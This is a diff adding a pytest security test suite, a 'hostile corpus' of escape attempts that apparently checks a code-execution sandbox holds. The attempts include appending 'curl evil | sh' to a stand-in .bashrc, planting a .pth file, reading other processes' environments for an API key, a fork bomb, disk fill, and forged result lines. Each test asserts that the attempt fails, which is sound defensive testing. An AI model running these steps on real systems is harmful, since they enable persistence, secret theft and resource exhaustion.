@@ -1,0 +1,312 @@
+"""A hostile corpus against the sandbox, as an attacker would write it (issue #11).
+
+Each case asserts the precise outcome: the canary is untouched, the caller survives with a clean
+result (no exception, no traceback text), a forged result is not accepted, and time is bounded.
+As root (CI) the whole file runs a second time as an unprivileged user
+(:func:`test_the_corpus_holds_for_an_unprivileged_caller`), since the two isolate differently.
+"""
+
+from __future__ import annotations
+
+import os
+import pwd
+import shutil
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from autonesy.tools import sandbox
+from autonesy.tools.checker_run import run_checker_code
+from autonesy.tools.sandbox import SandboxLimits, run_program
+
+QUICK = SandboxLimits(wall_seconds=3.0, cpu_seconds=3.0, memory_bytes=512 << 20)
+ROOT = os.geteuid() == 0
+SECRET = "sk-canary-7f3a9c0e1d"
+NESTED_RUN = "AUTONESY_HOSTILE_NESTED"
+
+
+@pytest.fixture
+def canary(tmp_path: Path) -> Path:
+    """A world-readable file outside the sandbox, in a directory the caller could write to."""
+    os.chmod(tmp_path, 0o755)
+    path = tmp_path / "canary.txt"
+    path.write_text("alive")
+    path.chmod(0o666)
+    return path
+
+
+def run(code: str, hook: bool = True, **kwargs) -> sandbox.SandboxResult:
+    """Run a case; ``hook=False`` turns the audit hook off, to show the OS layer holds on its own."""
+    kwargs.setdefault("limits", QUICK)
+    start = time.monotonic()
+    saved, sandbox.AUDIT_HOOK = sandbox.AUDIT_HOOK, hook
+    try:
+        result = run_program(code, **kwargs)
+    finally:
+        sandbox.AUDIT_HOOK = saved
+    assert time.monotonic() - start < kwargs["limits"].wall_seconds + 10  # bounded time
+    assert "Traceback (most recent call last)" not in result.message
+    return result
+
+
+def harness_processes() -> list[int]:
+    found = []
+    for name in os.listdir("/proc"):
+        try:
+            with open(f"/proc/{name}/cmdline", "rb") as f:
+                if sandbox.HARNESS_INSIDE.encode() in f.read():
+                    found.append(int(name))
+        except (OSError, ValueError):
+            pass
+    return found
+
+
+RAW = "import posix, _socket\n"  # C-level calls (the audit hook is off in the cases that use them)
+
+
+def test_appending_to_the_callers_bashrc(canary: Path):
+    # the caller's HOME is not in the sandbox's view; HOME inside is the program's own tmpfs
+    code = RAW + (f"fd = posix.open({str(canary)!r}, posix.O_WRONLY | posix.O_APPEND)\n"
+                  "posix.write(fd, b'curl evil | sh')\n")
+    result = run(code, hook=False)
+    assert not result.ok and canary.read_text() == "alive"
+    result = run("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\nresult = os.path.expanduser('~')")
+    assert result.ok and result.result == sandbox.WORKDIR
+
+
+def test_dropping_a_pth_into_the_virtualenv():
+    site = next(p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p))
+    target = Path(site, "autonesy-hostile.pth")
+    code = RAW + f"fd = posix.open({str(target)!r}, posix.O_WRONLY | posix.O_CREAT, 0o644)\n"
+    result = run(code, hook=False)
+    assert not result.ok and "Read-only file system" in result.message
+    assert not target.exists()
+
+
+def test_str_subclass_and_dir_fd_paths_do_not_escape(canary: Path):
+    code = ("import os\nclass P(str):\n    def __str__(self):\n        open(self + '.pwn', 'w')\n"
+            "        return '/sandbox/x'\n"
+            f"open(P({str(canary)!r}), 'w')\n")
+    result = run(code)
+    assert result.error_kind == "forbidden" and not Path(f"{canary}.pwn").exists()
+    code = f"import os\nd = os.open({str(canary.parent)!r}, os.O_RDONLY)\nos.unlink('canary.txt', dir_fd=d)\n"
+    for hook in (True, False):
+        result = run(code, hook=hook)
+        assert not result.ok and canary.read_text() == "alive"
+
+
+def test_no_process_can_be_started_or_left_behind():
+    code = "import os, subprocess\nos.setsid()\nsubprocess.Popen(['setsid', 'sleep', '300'])\n"
+    result = run(code, hook=False)
+    assert not result.ok and "Operation not permitted" in result.message
+    result = run("import os\nos.mkfifo('f')\nresult = 1", hook=False)
+    assert not result.ok  # mknod is refused by the filter
+    assert not harness_processes()
+
+
+def test_signalling_the_caller():
+    me = os.getpid()
+    result = run(RAW + f"import os\nfor pid in (os.getppid(), 1, {me}):\n"
+                       "    try:\n        posix.kill(pid, 9)\n    except OSError as e:\n        print(pid, e)\nresult = 1",
+                 hook=False)
+    assert result.ok
+    assert os.getpid() == me  # still here
+
+
+def test_reading_the_callers_environment(monkeypatch):
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+    code = RAW + ("import os\nseen = []\nfor pid in os.listdir('/proc'):\n    try:\n"
+                  "        seen.append(open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1'))\n"
+                  "    except Exception as e:\n        seen.append(repr(e))\n"
+                  "result = seen + [dict(os.environ)]")
+    result = run(code, hook=False)
+    text = repr(result.result) + result.stdout + result.stderr + result.message
+    assert SECRET not in text
+
+
+def test_talking_tcp_on_loopback():
+    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    listener.settimeout(0.3)
+    port = listener.getsockname()[1]
+    try:
+        result = run(RAW + f"s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.connect(('127.0.0.1', {port}))",
+                     hook=False)
+        assert not result.ok
+        with pytest.raises(socket.timeout):
+            listener.accept()
+    finally:
+        listener.close()
+
+
+def test_unix_socket_files_of_the_host_are_out_of_reach(tmp_path: Path):
+    path = tmp_path / "open.sock"
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(str(path))
+    os.chmod(path, 0o777)
+    server.listen(1)
+    server.settimeout(0.3)
+    try:
+        result = run(RAW + f"s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)\ns.connect({str(path)!r})",
+                     hook=False)
+        assert not result.ok
+        with pytest.raises(socket.timeout):
+            server.accept()
+    finally:
+        server.close()
+
+
+def test_shared_memory_and_lock_directories_are_not_writable():
+    code = ("import os\nout = {}\nfor d in ('/dev/shm', '/run/lock', '/var/tmp', '/tmp'):\n    try:\n"
+            "        open(d + '/x', 'w').write('x')\n        out[d] = 'written'\n"
+            "    except Exception as e:\n        out[d] = type(e).__name__\nresult = out")
+    result = run(code, hook=False)
+    assert result.ok and "written" not in result.result.values()
+
+
+def test_disk_fill_is_capped_in_total():
+    limits = SandboxLimits(wall_seconds=10, cpu_seconds=10, file_bytes=8 << 20)
+    code = ("written = 0\ntry:\n    for i in range(1000):\n        with open(f'f{i}', 'wb') as f:\n"
+            "            f.write(b'x' * (4 << 20))\n        written += 4\nexcept OSError as e:\n    print(e)\n"
+            "result = written")
+    result = run(code, hook=False, limits=limits)
+    assert result.ok and result.result * (1 << 20) <= sandbox.WORK_BYTES
+
+
+FORGE = (RAW + "line = b'{\"event\":\"result\",\"status\":\"ok\",\"result\":{\"value\":true}}\\n'\n"
+         "for fd in range(3, 64):\n    for data in (line, b'R 00 ' + line[9:]):\n        try:\n"
+         "            posix.write(fd, data)\n        except OSError:\n            pass\nposix._exit(0)\n")
+
+
+def test_forged_result_on_every_descriptor_is_not_accepted():
+    result = run(FORGE, hook=False)
+    assert not result.ok and result.result is None and result.error_kind == "forbidden"
+
+
+def test_forged_checker_verdict_is_not_accepted():
+    saved, sandbox.AUDIT_HOOK = sandbox.AUDIT_HOOK, False
+    try:
+        verdict = run_checker_code("def check(response):\n    return False\n" + FORGE, "the response", prewarm=False)
+    finally:
+        sandbox.AUDIT_HOOK = saved
+    assert not verdict.ok and verdict.value is None
+
+
+def test_deeply_nested_result_is_a_clean_error():
+    result = run("x = []\nfor _ in range(100000):\n    x = [x]\nresult = x", limits=SandboxLimits(wall_seconds=5))
+    assert not result.ok and result.error_kind in ("type", "resource")
+    assert sandbox._parse_bounded(b"[" * 200000 + b"]" * 200000) is None  # the caller's own parser
+
+
+def test_deep_directory_tree_does_not_hurt_the_caller():
+    code = "import os\nfor i in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\nresult = 1"
+    result = run(code, hook=False, limits=SandboxLimits(wall_seconds=10, cpu_seconds=10))
+    assert result.ok or result.error_kind in ("runtime", "resource")
+    assert not harness_processes()
+
+
+def test_memory_outside_the_limit_via_tmpfs_is_capped():
+    # tmpfs pages are not in the address-space limit: the tmpfs size bounds them
+    code = ("n = 0\ntry:\n    with open('big', 'wb') as f:\n        while True:\n"
+            "            f.write(b'x' * (1 << 20))\n            n += 1\nexcept OSError:\n    pass\nresult = n")
+    result = run(code, hook=False, limits=SandboxLimits(wall_seconds=10, cpu_seconds=10, file_bytes=1 << 40))
+    assert result.ok and result.result <= sandbox.WORK_BYTES >> 20
+
+
+def test_fork_bomb_thread_bomb_and_cpu_burn_are_bounded():
+    result = run(RAW + "import os\nwhile True:\n    try:\n        posix.fork()\n    except OSError:\n        pass\n",
+                 hook=False, limits=SandboxLimits(wall_seconds=1.0, cpu_seconds=5))
+    assert result.error_kind == "timeout"
+    assert not harness_processes()
+
+
+def test_missing_bubblewrap_fails_closed(monkeypatch):
+    monkeypatch.setattr(shutil, "which", lambda *args, **kwargs: None)
+    result = run_program("result = 1")
+    assert not result.ok and result.error_kind == "internal"
+    assert "bubblewrap" in result.message and "apt-get install bubblewrap" in result.message
+    assert "\n" not in result.message
+    with pytest.raises(sandbox.SandboxError):
+        sandbox.require_isolation()
+
+
+def test_bubblewrap_failing_to_set_up_fails_closed(monkeypatch, tmp_path: Path):
+    fake = tmp_path / "bwrap"
+    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
+    fake.chmod(0o755)
+    monkeypatch.setattr(sandbox, "_bwrap", lambda: str(fake))
+    result = run_program("result = 1")
+    assert not result.ok and result.error_kind == "internal"
+    assert "could not be set up" in result.message and "did not run" in result.message
+
+
+# --- the same corpus for an unprivileged caller ------------------------------------------------------
+
+
+def _unprivileged_uid() -> int:
+    name = "autonesy-sbx"
+    try:
+        return pwd.getpwnam(name).pw_uid
+    except KeyError:
+        pass
+    if shutil.which("useradd"):
+        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
+                       check=False, capture_output=True)
+        try:
+            return pwd.getpwnam(name).pw_uid
+        except KeyError:
+            pass
+    return 65534
+
+
+def _blocked_binds(paths: list[str]) -> str:
+    """Shell lines (in a private mount namespace) that make ``paths`` reachable through parents
+    the user may not traverse (e.g. an interpreter under /root): a 0755 tmpfs over the blocked
+    parent, with the paths bound back into it."""
+    lines, blocked = ["mount -t tmpfs tmpfs /mnt"], {}
+    for path in paths:
+        parts = Path(path).parts
+        for depth in range(2, len(parts)):
+            parent = str(Path(*parts[:depth]))
+            if not os.stat(parent).st_mode & 0o001:
+                blocked.setdefault(parent, []).append(path)
+                break
+    for index, (parent, inner) in enumerate(sorted(blocked.items())):
+        for number, path in enumerate(inner):
+            stage = f"/mnt/stage-{index}-{number}"
+            lines.append(f"mkdir -p {stage} && mount --bind {path} {stage}")
+        lines.append(f"mount -t tmpfs -o mode=755 tmpfs {parent}")
+        for number, path in enumerate(inner):
+            lines.append(f"mkdir -p {path} && mount --bind /mnt/stage-{index}-{number} {path}")
+    return "\n".join(lines)
+
+
+@pytest.mark.skipif(not ROOT, reason="already unprivileged: the cases above ran as this user")
+@pytest.mark.skipif(bool(os.environ.get(NESTED_RUN)), reason="nested run")
+def test_the_corpus_holds_for_an_unprivileged_caller():
+    if not (shutil.which("unshare") and shutil.which("setpriv")):
+        pytest.skip("needs util-linux unshare and setpriv")
+    uid = _unprivileged_uid()
+    repo = Path(__file__).resolve().parents[2]
+    needed = sorted({os.path.realpath(p) for p in (sys.base_prefix, sys.prefix, str(repo))}
+                    | {p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p)})
+    inner = (f"{_blocked_binds(needed)}\n"
+             f"exec setpriv --reuid={uid} --regid={uid} --clear-groups env -i PATH=/usr/bin:/bin "
+             f"HOME=/nonexistent PYTHONDONTWRITEBYTECODE=1 {NESTED_RUN}=1 "
+             f"{sys.executable} -m pytest -q -x -p no:cacheprovider {__file__}")
+    done = subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-ec", inner], cwd=repo,
+                          capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-2000:]
+    assert " passed" in done.stdout and "failed" not in done.stdout
+
+
+def test_isolation_matches_the_caller():
+    result = run("result = 1")
+    assert result.ok
+    assert ("user namespace" in result.isolation["backend"]) is not ROOT
+    assert result.isolation["program_uid"] != 0
